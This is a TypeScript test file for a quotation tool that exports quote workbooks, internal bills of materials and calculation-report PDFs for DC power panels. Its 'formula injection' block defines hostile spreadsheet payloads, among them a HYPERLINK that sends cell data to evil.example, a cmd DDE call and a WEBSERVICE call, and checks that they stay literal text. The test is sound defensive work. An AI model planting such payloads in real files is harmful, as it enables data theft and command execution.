import ExcelJS from 'exceljs';
import { execFileSync } from 'node:child_process';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { internalWorkbook } from '../../src/core/export/internal-workbook.ts';
import { customerWorkbook, panelPartsText, quoteDocument } from '../../src/core/export/customer-quote.ts';
import { a1, type WorkbookModel } from '../../src/core/export/sheet-model.ts';
import { customerGroups, documentStatusOf, quoteIdentity, quoteNumberBase } from '../../src/core/export/export-input.ts';
import { amountInWords } from '../../src/core/format/rmb-words.ts';
import { amountInWordsEn } from '../../src/core/export/amount-words-en.ts';
import { formatMoney, Money } from '../../src/core/money.ts';
import type { PricedQuote } from '../../src/core/pricing/price.ts';
import type { ProjectFile } from '../../src/core/project/schema.ts';
import { exportDocuments, type DocumentKind } from '../../src/export/node.ts';
import { SAMPLE_PROJECTS, sampleProject } from '../fixtures/knowledge.ts';
import { COMPLETE_TERMS, containsNumber, DATE, inputFor, moneyForms, shippedTemplates, withQuote } from './helpers/documents.ts';
import { haveSoffice, xlsxToCsv } from './helpers/libreoffice.ts';
import { ARTIFACTS, hasTool, pdfPageCount, pdfToText, rasterizePage, writeArtifact } from './helpers/poppler.ts';
import { zipAllText } from './helpers/zip.ts';

const havePoppler = hasTool('pdftotext');

interface Exported {
  project: ProjectFile;
  priced: PricedQuote;
  internal: WorkbookModel;
  customer: WorkbookModel;
  files: Record<DocumentKind, string>;
}

async function exportAll(project: ProjectFile, tag: string, lang: 'zh' | 'en' = 'zh', panelPricesOnly = false): Promise<Exported> {
  const input = await inputFor(project, lang, panelPricesOnly ? { panelPricesOnly } : {});
  const r = await exportDocuments({ project, knowledge: input.knowledge, templates: input.templates, lang, date: DATE, evaluation: input.evaluation, panelPricesOnly });
  if (!r.ok) throw new Error(r.problems.map((p) => p.message.en).join('; '));
  const files = Object.fromEntries(r.value.map((f) => [f.kind, writeArtifact(`export/${tag}`, f.name, f.bytes)])) as Record<DocumentKind, string>;
  return { project, priced: input.evaluation.priced!, internal: internalWorkbook(input), customer: customerWorkbook(input), files };
}

async function readXlsx(file: string): Promise<ExcelJS.Workbook> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  return wb;
}

/** Every formula cell of a model: sheet, A1 address, stated result. */
function formulaCells(model: WorkbookModel): { sheet: string; row: number; col: number; result: string }[] {
  return model.sheets.flatMap((s) => s.rows.flatMap((row, r) => row.flatMap((c, col) => (c.kind === 'formula' ? [{ sheet: s.name, row: r, col, result: c.result }] : []))));
}

/** A CSV field as LibreOffice writes a raw value; percent-formatted cells keep their "%". */
function csvNumber(s: string): Money {
  return s.endsWith('%') ? new Money(s.slice(0, -1)).div(100) : new Money(s);
}

/**
 * What a spreadsheet application reads out of the parts: text nodes (cell values, shared strings, inline
 * strings, comments, defined names, document properties), without markup. Attributes (row numbers,
 * style ids, widths) and the shared-string indexes of text cells are structure, not content.
 */
function xlsxContent(xml: string): string {
  return xml.replace(/<c\b[^>]*\bt="s"[^>]*>.*?<\/c>/gs, ' ').replace(/<[^>]+>/g, ' ');
}

function labelRow(rows: string[][], label: string): string[] {
  const row = rows.find((r) => r[0] === label);
  if (!row) throw new Error(`no row labelled ${label}`);
  return row;
}

describe.each(SAMPLE_PROJECTS)('documents of %s', (sample) => {
  let ex: Exported;
  beforeAll(async () => {
    ex = await exportAll(withQuote(await sampleProject(sample), { terms: COMPLETE_TERMS }), sample.replace('.json', ''));
  }, 60_000);

  it('internal workbook: values and formulas as exceljs reads them', async () => {
    const wb = await readXlsx(ex.files.internalBom);
    const names = wb.worksheets.map((w) => w.name);
    expect(names[0]).toBe('汇总');
    expect(names).toContain('PCST 成本构成');
    expect(names).toContain('偏差');
    // one sheet per panel that has lines
    const panels = ex.priced.panels.filter((p) => ex.priced.lines.some((l) => l.panelId === p.id));
    for (const p of panels) expect(names).toContain(p.name.zh);
    // every line: quantity and unit price are values; amount = ROUND(qty × unit price, 2) with the core's amount
    for (const p of panels) {
      const ws = wb.getWorksheet(p.name.zh)!;
      const lines = ex.priced.lines.filter((l) => l.panelId === p.id);
      lines.forEach((l, i) => {
        const row = ws.getRow(3 + i);
        expect(row.getCell(7).value).toBe(Number(l.quantity));
        expect(row.getCell(12).value).toBe(Number(l.unitPrice.toFixed(2)));
        const amount = row.getCell(13).value as ExcelJS.CellFormulaValue;
        if (l.unitPriceExact) {
          expect(amount.formula).toBe(`ROUND((G${3 + i}*L${3 + i}),2)`);
          expect(new Money(String(amount.result))).toEqual(l.amountExVat);
        }
        const material = row.getCell(9).value as ExcelJS.CellFormulaValue;
        expect(material.formula).toBe(`ROUND((G${3 + i}*H${3 + i}),2)`);
        expect(new Money(String(material.result)).eq(l.materialCost)).toBe(true);
      });
      const sub = ws.getRow(3 + lines.length).getCell(15).value as ExcelJS.CellFormulaValue;
      expect(sub.formula).toBe(`SUM(O3:O${2 + lines.length})`);
      expect(new Money(String(sub.result)).eq(p.netAmountExVat)).toBe(true);
    }
    // PCST: VAT is ROUND(price × rate / 100, 2) referencing cells, with the core's VAT
    const pcst = wb.getWorksheet('PCST 成本构成')!;
    let vatFormula: ExcelJS.CellFormulaValue | undefined;
    pcst.eachRow((row) => {
      if (row.getCell(1).value === '增值税') vatFormula = row.getCell(7).value as ExcelJS.CellFormulaValue;
    });
    expect(vatFormula?.formula).toMatch(/^ROUND\(\(\(G\d+\*D\d+\)\/100\),2\)$/);
    expect(new Money(String(vatFormula?.result)).eq(ex.priced.totals.vat)).toBe(true);
  });

  it.skipIf(!haveSoffice)('LibreOffice recalculates every formula to the stated result, and the totals to the core’s, to the fen', () => {
    const csv = xlsxToCsv([ex.files.internalBom, ex.files.customerQuoteXlsx], { recalc: 'always' });
    for (const [file, model] of [[ex.files.internalBom, ex.internal], [ex.files.customerQuoteXlsx, ex.customer]] as const) {
      const sheets = csv.get(file)!;
      const cells = formulaCells(model);
      expect(cells.length).toBeGreaterThan(20);
      const wrong = cells.filter((c) => {
        const got = sheets.get(c.sheet)?.[c.row]?.[c.col];
        return got === undefined || got === '' || !csvNumber(got).eq(c.result);
      });
      expect(wrong.map((c) => `${c.sheet}!${a1(c.row, c.col)} LibreOffice ${sheets.get(c.sheet)?.[c.row]?.[c.col]} ≠ ${c.result}`)).toEqual([]);
    }
    const T = ex.priced.totals;
    const pcst = csv.get(ex.files.internalBom)!.get('PCST 成本构成')!;
    expect(labelRow(pcst, '总成本')[6]).toBe(T.totalCost.toFixed(2).replace(/\.?0+$/, ''));
    for (const [label, v] of [['总成本', T.totalCost], ['售价（不含税）', T.netAmountExVat], ['增值税', T.vat], ['含税价', T.amountIncVat], ['毛利', T.grossProfit]] as const) {
      expect(new Money(labelRow(pcst, label)[6]!).eq(v), label).toBe(true);
    }
    const quote = csv.get(ex.files.customerQuoteXlsx)!.get('报价清单')!;
    const t = shippedTemplates().quote.zh.labels;
    expect(new Money(labelRow(quote, t.totalExVat)[7]!).eq(T.netAmountExVat)).toBe(true);
    expect(new Money(labelRow(quote, `${t.vat} (13%)`)[7]!).eq(T.vat)).toBe(true);
    expect(new Money(labelRow(quote, t.totalIncVat)[7]!).eq(T.amountIncVat)).toBe(true);
  }, 120_000);

  it.skipIf(!havePoppler)('customer workbook and customer PDF carry no cost figure and no margin', async () => {
    const p = ex.priced;
    // What the customer documents may legitimately show, gathered from the price side only (not from the documents):
    const priceFigures = [
      ...p.lines.flatMap((l) => [l.unitPrice, l.amountExVat, l.netAmountExVat, l.vat, l.amountIncVat, new Money(l.quantity)]),
      ...p.panels.flatMap((x) => [x.amountExVat, x.netAmountExVat]),
      p.totals.amountExVat, p.totals.netAmountExVat, p.totals.vat, p.totals.amountIncVat, p.totals.headerDiscount,
      // the VAT rate printed beside 增值税, and the customer lines (merged lines, cabinet lines with the panel parts folded in)
      new Money(p.vatRatePct),
      ...customerGroups(await inputFor(ex.project)).flatMap((g) => g.lines.flatMap((l) => [l.unitPrice, l.amount, l.quantity])),
    ];
    const shownText = [
      ...p.lines.flatMap((l) => [l.spec, l.code ?? '', l.name.zh, l.name.en, l.quantity]),
      JSON.stringify(ex.project.meta), JSON.stringify(COMPLETE_TERMS), JSON.stringify(shippedTemplates()), DATE,
    ].join('\n');
    const costs: { what: string; value: Money }[] = [
      ...p.lines.flatMap((l) => [
        { what: `${l.lineId} unit cost`, value: l.unitCost },
        { what: `${l.lineId} material cost`, value: l.materialCost },
        { what: `${l.lineId} total cost`, value: l.totalCost },
        { what: `${l.lineId} gross profit`, value: l.grossProfit },
        ...Object.entries(l.factorCosts).map(([k, v]) => ({ what: `${l.lineId} ${k}`, value: v })),
      ]),
      ...p.panels.flatMap((x) => [{ what: `${x.id} total cost`, value: x.totalCost }, { what: `${x.id} gross profit`, value: x.grossProfit }]),
      ...p.costLayers.flatMap((c) => [{ what: `layer ${c.id}`, value: c.amount }, ...(c.baseAmount ? [{ what: `layer ${c.id} base`, value: c.baseAmount }] : [])]),
      { what: 'total cost', value: p.totals.totalCost },
      { what: 'gross profit', value: p.totals.grossProfit },
    ];
    const margins = [p.totals.grossMargin, ...p.panels.map((x) => x.grossMargin), ...p.lines.map((l) => l.grossMargin)].filter((m): m is Money => m !== null);
    const marginForms = [...new Set(margins.flatMap((m) => [m.times(100).toFixed(2) + '%', m.times(100).toFixed(2) + ' %', m.toFixed(6), m.toFixed(4), m.toSignificantDigits(15).toString()]))];

    const zip = zipAllText(ex.files.customerQuoteXlsx);
    expect(zip.names.some((n) => /comments|vmlDrawing|customXml/i.test(n))).toBe(false);
    const xlsx = { text: xlsxContent(zip.text) };
    const pdfText = pdfToText(ex.files.quotePdf);
    const skipped: string[] = [];
    const found: string[] = [];
    for (const c of costs) {
      if (c.value.abs().lessThan(10)) {
        // Below 10 the figure is one or two digits ("7.5", "0"): it also matches style ids, row numbers and
        // quantities in the XML, so a hit would say nothing. Larger figures are searched.
        skipped.push(`${c.what} = ${c.value.toFixed(2)}: under 10, not distinctive`);
        continue;
      }
      if (c.value.isInteger() && c.value.lte(p.lines.length)) {
        // A whole number up to the line count is a row number (序号) in the documents: not distinctive either.
        skipped.push(`${c.what} = ${c.value.toFixed(0)}: a row number in the documents, not distinctive`);
        continue;
      }
      const samePrice = priceFigures.find((f) => f.eq(c.value));
      if (samePrice) {
        skipped.push(`${c.what} = ${c.value.toFixed(2)}: equals a price/quantity figure the customer sees`);
        continue;
      }
      const forms = moneyForms(c.value);
      const inText = forms.find((f) => containsNumber(shownText, f));
      if (inText) {
        skipped.push(`${c.what} = ${inText}: the number appears in a spec, name, term or template text`);
        continue;
      }
      for (const f of forms) {
        if (containsNumber(xlsx.text, f)) found.push(`xlsx: ${c.what} as ${f}`);
        if (containsNumber(pdfText, f)) found.push(`pdf: ${c.what} as ${f}`);
      }
    }
    for (const f of marginForms) {
      // As whole numbers: "0.25" inside the price "10,120.25" is not a margin.
      if (containsNumber(xlsx.text, f)) found.push(`xlsx: margin ${f}`);
      if (containsNumber(pdfText, f)) found.push(`pdf: margin ${f}`);
    }
    expect(found).toEqual([]);
    // The search must have searched something: most cost figures are distinctive.
    expect(costs.length - skipped.length).toBeGreaterThan(costs.length / 2);
    if (skipped.length) console.info(`${sample}: ${skipped.length} of ${costs.length} cost figures not searched:\n  ${skipped.slice(0, 12).join('\n  ')}${skipped.length > 12 ? '\n  …' : ''}`);
    // and the words that would give cost or approval away
    for (const w of ['成本', '毛利', '审批', 'cost', 'margin', 'approv']) {
      expect(pdfText.toLowerCase()).not.toContain(w.toLowerCase());
      expect(xlsx.text.toLowerCase()).not.toContain(w.toLowerCase());
    }
  });

  it('customer workbook hides nothing and names nothing', async () => {
    const wb = await readXlsx(ex.files.customerQuoteXlsx);
    expect(wb.worksheets.map((w) => w.state)).toEqual(['visible']);
    wb.worksheets[0]!.columns.forEach((c) => expect(c.hidden).toBeFalsy());
    expect(wb.definedNames.model.filter((d) => !/Print_Titles/.test(d.name ?? ''))).toEqual([]);
    const props = zipAllText(ex.files.customerQuoteXlsx);
    expect(props.names).not.toContain('docProps/custom.xml');
  });

  it.skipIf(!havePoppler)('quote PDF: totals are the core’s, with 人民币大写; no watermark on a final quote', () => {
    const T = ex.priced.totals;
    const text = pdfToText(ex.files.quotePdf).replace(/[ \t]+/g, ' ');
    const flat = text.replace(/\s+/g, '');
    expect(flat).toContain(amountInWords(T.amountIncVat));
    expect(flat).toContain(`人民币大写${amountInWords(T.amountIncVat)}`);
    for (const v of [T.netAmountExVat, T.vat, T.amountIncVat]) expect(flat).toContain(formatMoney(v));
    for (const p of ex.priced.panels) if (!p.amountExVat.isZero()) expect(flat).toContain(formatMoney(p.amountExVat));
    expect(flat).not.toContain('草稿');
    expect(flat).toContain(`${quoteNumberBase(ex.project)}-A`);
    expect(pdfPageCount(ex.files.quotePdf)).toBeGreaterThan(1);
    expect(flat).toContain(`第1页/共${pdfPageCount(ex.files.quotePdf)}页`);
    rasterizePage(ex.files.quotePdf, 1, join(ARTIFACTS, 'pdf', `${sample.replace('.json', '')}-quote-zh-p1`), 80);
  });

  it.skipIf(!havePoppler)('calculation report PDF: inputs, load statistics in the designers’ layout, every trace step, legend', async () => {
    const input = await inputFor(ex.project);
    const flat = pdfToText(ex.files.calculationReportPdf).replace(/\s+/g, '');
    for (const h of ['设计输入', '直流负荷统计表', '负荷名称', '装置容量', '负荷系数', '经常负荷电流', '初期1min', '随机5s', '容量计算', '叠加随机负荷', '容量取值', '计算过程', '设备选择']) expect(flat).toContain(h);
    const s = input.evaluation.sizing;
    expect(flat).toContain(`I0=${s.loadStatistics!.totals.i0A.toFixed(2)}`);
    expect(flat).toContain(s.configuration!.modelCode.replace(/\s+/g, ''));
    // every trace step is in the book by what it computes, and none by its internal trace id
    for (const e of s.trace) expect(flat, e.id).toContain(e.quantity.zh.replace(/\s+/g, ''));
    for (const e of s.trace.filter((x) => x.id.includes('.'))) expect(flat, e.id).not.toContain(e.id.replace(/\s+/g, ''));
    expect(flat).not.toMatch(/rules\/[\w/.-]+\.yaml|productdecision|\[rule/);
    for (const role of ['编制', '校核', '审核', '批准']) expect(flat).toContain(`${role}：`);
    if (s.unconfirmed.length) expect(flat).toContain('附录未确认数值');
    // no money in a technical document
    expect(flat).not.toContain(formatMoney(ex.priced.totals.amountIncVat));
    rasterizePage(ex.files.calculationReportPdf, 1, join(ARTIFACTS, 'pdf', `${sample.replace('.json', '')}-report-zh-p1`), 80);
  });
});

describe('per-panel parts in the customer quote (issue 11)', () => {
  const PART_KINDS = new Set(['terminals', 'wiring', 'labels', 'mounting']);
  it.each([...SAMPLE_PROJECTS, 'sample-integrated-telecom.json'])('%s: terminals, wiring, labels and mounting are folded into the cabinet or rack line, each panel still totals to its subtotal', async (sample) => {
    const input = await inputFor(await sampleProject(sample));
    const partCodes = new Set(input.knowledge.catalog.items.filter((i) => i.family === 'sundry' && 'kind' in i && PART_KINDS.has(String(i.kind))).map((i) => i.code));
    const groups = customerGroups(input);
    for (const g of groups) {
      expect(g.lines.filter((l) => l.code !== undefined && partCodes.has(l.code)).map((l) => `${g.title}: ${l.name}`)).toEqual([]);
      expect(g.lines.reduce((a, l) => a.plus(l.amount), new Money(0)).toFixed(2)).toBe(g.panel.amountExVat.toFixed(2));
      for (const l of g.lines.filter((x) => x.includesPanelParts)) expect(l.amount.toFixed(2)).toBe(l.quantity.times(l.unitPrice).toDecimalPlaces(2).toFixed(2));
    }
    // The battery racks carry theirs too (4 racks, 4 lots each of labels and mounting on the 220 kV sample).
    if (sample === 'sample-220kv.json') expect(groups.some((g) => g.lines.some((l) => l.includesPanelParts && !l.quantity.eq(1)))).toBe(true);
    // Each folded line says what it includes, and only that: a battery rack has no terminals or wiring.
    for (const g of groups) for (const l of g.lines) expect(l.panelParts.length > 0).toBe(l.includesPanelParts);
    const doc = quoteDocument(input);
    const specs = doc.groups.flatMap((g) => g.lines.map((l) => l.spec ?? ''));
    if (sample === 'sample-220kv.json') {
      expect(specs.some((x) => x.endsWith('；含屏内端子、二次配线、标识及安装附件'))).toBe(true);
      expect(specs.filter((x) => x.endsWith('；含标识及安装附件')).length).toBe(2); // the two groups' racks
    }
  });

  it('the included parts read in the document language', () => {
    const zh = shippedTemplates().quote.zh;
    const en = shippedTemplates().quote.en;
    expect(panelPartsText(['labels', 'mounting'], zh)).toBe('含标识及安装附件');
    expect(panelPartsText(['terminals', 'wiring', 'labels', 'mounting'], zh)).toBe('含屏内端子、二次配线、标识及安装附件');
    expect(panelPartsText(['terminals', 'wiring', 'labels', 'mounting'], en)).toBe('incl. terminals, internal wiring, labels and mounting parts');
    expect(panelPartsText(['mounting'], en)).toBe('incl. mounting parts');
  });
});

describe('English documents', () => {
  it.skipIf(!havePoppler)('quote and report in English, first pages rendered', async () => {
    const ex = await exportAll(withQuote(await sampleProject('sample-220kv.json'), { terms: COMPLETE_TERMS }), 'sample-220kv-en', 'en');
    const q = pdfToText(ex.files.quotePdf);
    expect(q).toContain('Quotation');
    expect(q).toContain('Total incl. VAT');
    // the total in words in English (cheque form), not the Chinese 人民币大写 (issue 11)
    expect(q.replace(/\s+/g, ' ')).toContain(amountInWordsEn(ex.priced.totals.amountIncVat));
    expect(q.replace(/\s+/g, '')).not.toContain(amountInWords(ex.priced.totals.amountIncVat));
    const r = pdfToText(ex.files.calculationReportPdf);
    expect(r).toContain('DC load statistics');
    expect(r).toContain('Page 1 of');
    rasterizePage(ex.files.quotePdf, 1, join(ARTIFACTS, 'pdf', 'sample-220kv-quote-en-p1'), 80);
    rasterizePage(ex.files.calculationReportPdf, 1, join(ARTIFACTS, 'pdf', 'sample-220kv-report-en-p1'), 80);
  }, 60_000);
});

describe('draft marking', () => {
  it.skipIf(!havePoppler)('an unapproved quote is DRAFT on every page of the customer PDF and in the workbook; the approved one is not', async () => {
    // 20 % margin needs a sales manager's approval (rules/pricing/approval.yaml)
    const base = withQuote(await sampleProject('sample-110kv.json'), { terms: COMPLETE_TERMS, settings: { mode: 'targetMargin', marginPct: '20', allocateBy: 'cost' } });
    const input = await inputFor(base);
    expect(input.evaluation.quote!.required.needsApproval).toBe(true);
    expect(quoteIdentity(input).status).toBe('draft');
    expect(documentStatusOf(input)).toBe('draft');
    const draft = await exportAll(base, 'draft');
    const mark = shippedTemplates().quote.zh.draftWatermark.replace(/\s+/g, '');
    const pages = pdfPageCount(draft.files.quotePdf);
    expect(pages).toBeGreaterThan(1);
    for (let i = 1; i <= pages; i++) {
      const page = execFileSync('pdftotext', ['-f', String(i), '-l', String(i), '-raw', '-enc', 'UTF-8', draft.files.quotePdf, '-'], { encoding: 'utf8' }).replace(/\s+/g, '');
      expect(page, `page ${i}`).toContain(mark);
    }
    expect(zipAllText(draft.files.customerQuoteXlsx).text).toContain(shippedTemplates().quote.zh.draftWatermark);
    rasterizePage(draft.files.quotePdf, 1, join(ARTIFACTS, 'pdf', 'sample-110kv-quote-draft-p1'), 80);

    const { approved } = await import('./helpers/documents.ts');
    const approvedProject = await approved(base);
    const approvedInput = await inputFor(approvedProject);
    expect(quoteIdentity(approvedInput).status).toBe('final');
    expect(documentStatusOf(approvedInput)).toBe('final');
    const final = await exportAll(approvedProject, 'approved');
    expect(pdfToText(final.files.quotePdf).replace(/\s+/g, '')).not.toContain(mark);
    expect(zipAllText(final.files.customerQuoteXlsx).text).not.toContain(shippedTemplates().quote.zh.draftWatermark);
  }, 90_000);
});

describe('panel prices only', () => {
  it.skipIf(!havePoppler)('component lines carry no prices; panel prices and totals stay the core’s', async () => {
    const ex = await exportAll(withQuote(await sampleProject('sample-110kv.json'), { terms: COMPLETE_TERMS }), 'panel-prices-only', 'zh', true);
    const input = await inputFor(ex.project, 'zh', { panelPricesOnly: true });
    const doc = quoteDocument(input);
    // The PDF says what the workbook says in the amount column: included in the panel price.
    const included = shippedTemplates().quote.zh.labels.includedInPanelPrice;
    expect(doc.groups.every((g) => g.lines.every((l) => l.unitPrice === '' && l.amount === included))).toBe(true);
    expect(zipAllText(ex.files.customerQuoteXlsx).text).toContain(included);
    const flat = pdfToText(ex.files.quotePdf).replace(/\s+/g, '');
    const p = ex.priced;
    for (const panel of p.panels) if (!panel.amountExVat.isZero()) expect(flat).toContain(formatMoney(panel.amountExVat));
    expect(flat).toContain(formatMoney(p.totals.amountIncVat));
    // a line price that is neither a panel price nor a total must not appear
    const shown = new Set([...p.panels.map((x) => formatMoney(x.amountExVat)), formatMoney(p.totals.netAmountExVat), formatMoney(p.totals.vat), formatMoney(p.totals.amountIncVat)]);
    const hidden = p.lines.map((l) => formatMoney(l.unitPrice)).filter((s) => !shown.has(s) && new Money(s.replace(/,/g, '')).gte(100));
    expect(hidden.length).toBeGreaterThan(5);
    const xlsx = zipAllText(ex.files.customerQuoteXlsx).text;
    for (const h of hidden) {
      expect(containsNumber(flat, h), h).toBe(false);
      expect(containsNumber(xlsx, h.replace(/,/g, '')), h).toBe(false);
    }
  }, 60_000);
});

describe('formula injection', () => {
  const HOSTILE = {
    customer: '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    name: '+cmd|\' /C calc\'!A0',
    site: '@SUM(1,1)',
    lineName: '-2+3',
    spec: '=1+1 规格',
    note: '=WEBSERVICE("http://evil.example")',
  };

  it('hostile text in meta, customer and a manual line stays literal text in both workbooks', async () => {
    const sample = await sampleProject('sample-110kv.json');
    const project: ProjectFile = withQuote(
      { ...sample, meta: { ...sample.meta, customer: HOSTILE.customer, name: HOSTILE.name, siteName: HOSTILE.site } },
      {
        terms: { ...COMPLETE_TERMS, note: HOSTILE.note },
        edits: [
          {
            type: 'addManualLine',
            line: { id: 'manual:1', panelId: 'feederPanel-1', quantity: '2', note: HOSTILE.note, item: { kind: 'custom', item: { name: { zh: HOSTILE.lineName, en: HOSTILE.lineName }, spec: HOSTILE.spec, unit: 'pcs', brand: '@brand', costPrice: '100.00', listPrice: '150.00' } } },
          },
        ],
      },
    );
    const ex = await exportAll(project, 'injection');
    expect(ex.priced.lines.some((l) => l.lineId === 'manual:1')).toBe(true);
    for (const file of [ex.files.internalBom, ex.files.customerQuoteXlsx]) {
      const wb = await readXlsx(file);
      const seen = new Set<string>();
      wb.eachSheet((ws) =>
        ws.eachRow((row) =>
          row.eachCell((cell) => {
            const v = cell.value;
            if (typeof v === 'string') {
              for (const h of Object.values(HOSTILE)) if (v.includes(h)) seen.add(h);
            } else if (v && typeof v === 'object' && 'formula' in v) {
              // our formulas only: references, numbers, + - * / and the whitelisted functions
              expect(v.formula).toMatch(/^[A-Z0-9(),.:+\-*/'! \u4e00-\u9fff\uff08\uff09#]+$/);
              expect(v.formula).not.toMatch(/HYPERLINK|WEBSERVICE|cmd/);
            }
          }),
        ),
      );
      const expected = file === ex.files.customerQuoteXlsx ? [HOSTILE.customer, HOSTILE.name, HOSTILE.lineName, HOSTILE.spec, HOSTILE.note] : [HOSTILE.customer, HOSTILE.name, HOSTILE.site, HOSTILE.lineName, HOSTILE.spec, HOSTILE.note];
      for (const h of expected) expect(seen.has(h), `${file}: ${h}`).toBe(true);
      const xml = zipAllText(file).text;
      expect(xml).not.toMatch(/<f>[^<]*(HYPERLINK|WEBSERVICE|cmd)/);
    }
  }, 60_000);
});

describe('font coverage', () => {
  it('a character the browser subset lacks blocks the export, naming the field the user typed it in; the full font draws it', async () => {
    const { subsetFontCoverage } = await import('../../src/export/pdf/fonts.ts');
    const { nodeFontSet } = await import('../../src/export/pdf/node-fonts.ts');
    const { exportDocuments: exportWith } = await import('../../src/export/documents.ts');
    const sample = await sampleProject('sample-110kv.json');
    const project = withQuote({ ...sample, meta: { ...sample.meta, customer: '王喆电力工程有限公司' } }, { terms: COMPLETE_TERMS });
    const input = await inputFor(project);
    const fonts = { ...nodeFontSet(), coverage: subsetFontCoverage() };
    const r = await exportWith({ project, knowledge: input.knowledge, templates: input.templates, lang: 'zh', date: DATE, only: ['quotePdf'] }, fonts);
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.problems.map((p) => [p.code, p.severity, p.path, p.value])).toEqual([['export.font.missing-glyph', 'error', 'meta.customer', '喆']]);
    expect(r.problems[0]!.message.zh).toContain('“客户”');
    expect(r.problems[0]!.message.zh).toContain('导出已停止');
    const full = await exportWith({ project, knowledge: input.knowledge, templates: input.templates, lang: 'zh', date: DATE, only: ['quotePdf'] }, nodeFontSet());
    expect(full.ok).toBe(true);
  }, 60_000);
});

describe('list prices with line and header discounts, and a deviation', () => {
  it.skipIf(!haveSoffice)('allocated shares are values, everything else recalculates to the core’s totals in LibreOffice', async () => {
    const sample = await sampleProject('sample-110kv.json');
    const first = (await inputFor(sample)).evaluation.bom!.lines;
    const project = withQuote(sample, {
      terms: COMPLETE_TERMS,
      settings: { mode: 'listPrice', lineDiscountPct: { [first[1]!.id]: '7.5' }, unitPrices: { [first[2]!.id]: '333.33' }, headerDiscount: { kind: 'percent', pct: '3.3' } },
      edits: [{ type: 'setQuantity', lineId: first[3]!.id, quantity: '3' }],
    });
    const ex = await exportAll(project, 'list-discounts');
    const T = ex.priced.totals;
    expect(T.headerDiscount.isZero()).toBe(false);
    const csv = xlsxToCsv([ex.files.internalBom, ex.files.customerQuoteXlsx], { recalc: 'always' });
    for (const [file, model] of [[ex.files.internalBom, ex.internal], [ex.files.customerQuoteXlsx, ex.customer]] as const) {
      const sheets = csv.get(file)!;
      const wrong = formulaCells(model).filter((c) => {
        const got = sheets.get(c.sheet)?.[c.row]?.[c.col];
        return got === undefined || got === '' || !csvNumber(got).eq(c.result);
      });
      expect(wrong).toEqual([]);
    }
    const quote = csv.get(ex.files.customerQuoteXlsx)!.get('报价清单')!;
    const t = shippedTemplates().quote.zh.labels;
    expect(new Money(labelRow(quote, t.headerDiscount)[7]!).eq(T.headerDiscount)).toBe(true);
    expect(new Money(labelRow(quote, t.totalExVat)[7]!).eq(T.netAmountExVat)).toBe(true);
    expect(new Money(labelRow(quote, t.totalIncVat)[7]!).eq(T.amountIncVat)).toBe(true);
    const dev = csv.get(ex.files.internalBom)!.get('偏差')!;
    expect(dev.some((r) => r[0] === '改数量' && r[2] === first[3]!.id && r[6] === '3')).toBe(true);
    const pdf = pdfToText(ex.files.quotePdf).replace(/\s+/g, '');
    expect(pdf).toContain(`整单优惠-${formatMoney(T.headerDiscount)}`);
    expect(pdf).toContain(formatMoney(T.amountIncVat));
  }, 120_000);
});

describe('quote numbers customers can read', () => {
  const project = (id: string, meta: Record<string, string> = {}) => ({ id, meta: { name: 'p', customer: '', siteName: '', ...meta } }) as unknown as Parameters<typeof quoteNumberBase>[0];
  it('a generated project id becomes Q + creation date + six characters', () => {
    expect(quoteNumberBase(project('e9bd4289-32a0-4af8-818f-8d48d99332b7', { createdAt: '2026-11-24T08:00:00.000Z' }))).toBe('Q20261124-E9BD42');
  });
  it('a short hand-made id is kept whole', () => {
    expect(quoteNumberBase(project('sample-110kv'))).toBe('Q-SAMPLE110KV');
  });
  it('a typed quote number wins', () => {
    expect(quoteNumberBase(project('x', { quoteNo: 'ZH-BJ-2026-118' }))).toBe('ZH-BJ-2026-118');
  });
});
